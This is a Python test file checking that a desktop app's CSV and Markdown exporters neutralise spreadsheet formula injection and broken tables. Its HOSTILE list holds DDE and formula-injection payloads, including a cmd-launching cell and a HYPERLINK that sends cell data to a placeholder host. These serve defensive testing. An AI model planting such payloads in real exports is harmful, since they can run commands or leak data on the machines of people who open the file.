"""Exports safe to open: no live formulas in CSV for spreadsheets, no broken Markdown tables."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import msgspec
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop_app.__main__ import main
from desktop_app.core.project import Project
from desktop_app.exporters import EXPORTERS, RAW_CSV_HELP, ExportOptions, Scope
from desktop_app.exporters.csv_export import FORMULA_STARTS
from desktop_app.storage.project_file import save
from tests.exporters.sample import sample_project

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A2, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _hostile(project: Project, value: str) -> Project:
    """Every text field the CSV formats write set to ``value``."""
    for article in list(project.articles):
        project.articles._replace(msgspec.structs.replace(article, title=value, outlet=value))
    for code in list(project.codes):
        project.codes._replace(msgspec.structs.replace(code, name=value, description=value))
    for annotator in list(project.annotators):
        project.annotators._replace(msgspec.structs.replace(annotator, name=value))
    for annotation in list(project.annotations):
        quote = msgspec.structs.replace(annotation.quote, exact=value)
        project.annotations._replace(msgspec.structs.replace(annotation, note=value, quote=quote))
    return project


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_formulas_are_neutralised_in_both_csv_formats_by_default() -> None:
    for value in HOSTILE:
        project = _hostile(sample_project(), value)
        for format_id in ("csv", "codebook-csv"):
            rows = _cells(EXPORTERS[format_id].export(project, Scope(), ExportOptions()))
            body = [cell for row in rows[1:] for cell in row]
            assert f"'{value}" in body, (format_id, value)
            assert not any(cell.startswith(FORMULA_STARTS) for cell in body), (format_id, body)


def test_the_raw_choice_keeps_cells_exactly() -> None:
    for value in HOSTILE:
        project = _hostile(sample_project(), value)
        for format_id in ("csv", "codebook-csv"):
            data = EXPORTERS[format_id].export(project, Scope(), ExportOptions(raw_csv=True))
            body = [cell for row in _cells(data)[1:] for cell in row]
            assert value in body
            assert f"'{value}" not in body
    assert "formula" in RAW_CSV_HELP


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=30))
def test_no_note_becomes_a_formula(note: str) -> None:
    project = sample_project()
    annotation = next(iter(project.annotations))
    project.annotations._replace(msgspec.structs.replace(annotation, note=note))
    safe = _cells(EXPORTERS["csv"].export(project, Scope(), ExportOptions()))
    raw = _cells(EXPORTERS["csv"].export(project, Scope(), ExportOptions(raw_csv=True)))
    note_column = safe[0].index("note")
    for row in safe[1:]:
        assert not row[note_column].startswith(FORMULA_STARTS)
    written = [row[note_column] for row in raw[1:]]
    assert note.replace("\r\n", "\n").replace("\r", "\n") in [
        w.replace("\r\n", "\n").replace("\r", "\n") for w in written
    ]


def test_the_cli_neutralises_by_default_and_writes_raw_when_asked(tmp_path: Path) -> None:
    project_path = tmp_path / "p.json"
    save(_hostile(sample_project(), HOSTILE[0]), project_path)
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert main(["export", str(project_path), "-f", "csv", "-o", str(safe)]) == 0
    assert main(["export", str(project_path), "-f", "csv", "--raw", "-o", str(raw)]) == 0
    assert f"'{HOSTILE[0]}" in {c for row in _cells(safe.read_bytes()) for c in row}
    assert HOSTILE[0] in {c for row in _cells(raw.read_bytes()) for c in row}


_UNESCAPED_PIPE = re.compile(r"(?<!\\)\|")


def test_markdown_tables_survive_newlines_and_pipes_in_every_field() -> None:
    value = "Line one\nLine | two\r\n| --- | injected |\rend"
    project = _hostile(sample_project(), value)
    text = EXPORTERS["md"].export(project, Scope(), ExportOptions()).decode()
    lines = text.split("\n")
    assert "\r" not in text
    tables: list[list[str]] = []
    current: list[str] = []
    for line in lines:
        if line.startswith("|"):
            current.append(line)
        elif current:
            tables.append(current)
            current = []
    assert len(tables) >= 2
    for table in tables:
        widths = {len(_UNESCAPED_PIPE.findall(row)) for row in table}
        assert len(widths) == 1, table  # every row has as many cells as the header
    headings = [line for line in lines if line.startswith("#")]
    assert all("injected" not in h or "\\|" in h for h in headings)
    assert not any(line.startswith("| --- | injected") for line in lines)
